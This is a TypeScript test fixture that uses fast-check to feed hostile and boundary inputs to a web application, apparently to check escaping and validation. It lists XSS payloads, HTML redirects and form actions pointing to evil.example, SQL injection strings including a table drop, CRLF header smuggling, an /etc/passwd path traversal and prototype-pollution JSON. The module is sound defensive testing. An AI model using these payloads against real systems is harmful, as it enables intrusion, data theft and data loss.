/** Input that no page sends: values at the borders, of other types, and texts that mean something to a program. */
import fc from 'fast-check';

/** Every text that would run, or break out of its place, if a page, a query or an e-mail did not escape it. */
export const scripts = [
  '<script>window.__xss=1</script>',
  '"><img src=x onerror=window.__xss=1>',
  "'><svg/onload=window.__xss=1>",
  '</title><script>window.__xss=1</script>',
  '</textarea><img src=x onerror=window.__xss=1>',
  '</script><script>window.__xss=1</script>',
  '--><img src=x onerror=window.__xss=1><!--',
  '<a href="javascript:window.__xss=1">x</a>',
  'javascript:window.__xss=1',
  '" autofocus onfocus=window.__xss=1 x="',
  '<iframe srcdoc="<script>parent.__xss=1</script>">',
  '{{constructor.constructor("window.__xss=1")()}}',
  '<style>*{background:url(//evil.example)}</style>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<form action=//evil.example><button>',
];

const queries = [
  "' or '1'='1",
  "'; drop table orders; --",
  '%',
  '_',
  '\\',
  "\\'; --",
  '1; copy orders to stdout',
  '$1',
  "''",
];

const signs = [
  '',
  ' ',
  '\0',
  'a\0b',
  '\ud800',
  'x\udfff',
  '\u202Eabc',
  '\u200B\u200D\uFEFF',
  'a\u0300'.repeat(200),
  '﷽'.repeat(40),
  '💡'.repeat(60),
  '\r\nset-cookie: a=b',
  '\r\nBcc: all@evil.example',
  '=1+1',
  '../../../etc/passwd',
  '%00',
  '%ED%A0%80',
  '//evil.example',
  '/\\evil.example',
  'x'.repeat(5_000),
  ' '.repeat(30_000),
  '\t\n'.repeat(5_000),
  'a'.repeat(60_000),
  '__proto__',
  'constructor',
  'NaN',
  'Infinity',
  '1e999',
  '-0',
  '0x10',
  '٠١٢',
  '2026-02-30',
  '+275760-09-13T00:00:00.001Z',
  '0001-01-01T00:00:00Z',
  '99999999',
  '00000000-0000-0000-0000-000000000000',
];

const numbers = [
  0,
  -0,
  -1,
  1.5,
  1e308,
  -1e308,
  5e-324,
  2_147_483_647,
  2_147_483_648,
  -2_147_483_649,
  9_007_199_254_740_991,
  2 ** 63,
];

/** Anything a program could put where a word, a number or a list is expected. */
export const anyValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: fc.constantFrom<unknown>(...signs), weight: 6 },
  { arbitrary: fc.constantFrom<unknown>(...scripts, ...queries), weight: 4 },
  // What PostgreSQL takes in no text.
  { arbitrary: fc.constantFrom<unknown>('\0', 'a\0b', '\ud800'), weight: 3 },
  { arbitrary: fc.constantFrom<unknown>(...numbers, null, true, false), weight: 4 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 3 },
  { arbitrary: fc.jsonValue({ maxDepth: 3 }), weight: 2 },
  { arbitrary: fc.constantFrom<unknown>([], {}, [[]], { length: 1e9 }, { $ne: null }, { toString: 1 }), weight: 2 },
);

/** A text that fits into an address or a field of a form. */
export const anyText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...signs, ...scripts, ...queries).map((text) => text.slice(0, 3_000)),
  fc.string({ unit: 'binary', maxLength: 40 }),
);

/** Bodies that are no JSON of ours, whatever the address. */
export const brokenBodies: readonly string[] = [
  '',
  '{',
  'null',
  '[null]',
  '"text"',
  '\0',
  '﻿{}',
  '{"action":"x","action":"y"}',
  '{"__proto__":{"role":"owner"},"constructor":{"prototype":{"role":"owner"}}}',
  `${'['.repeat(10_000)}${']'.repeat(10_000)}`,
  `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`,
  `{${Array.from({ length: 5_000 }, (_, key) => `"k${key}":1`).join()}}`,
  `[${'1e308,'.repeat(5_000)}1]`,
  `{"a":${'9'.repeat(5_000)}}`,
];
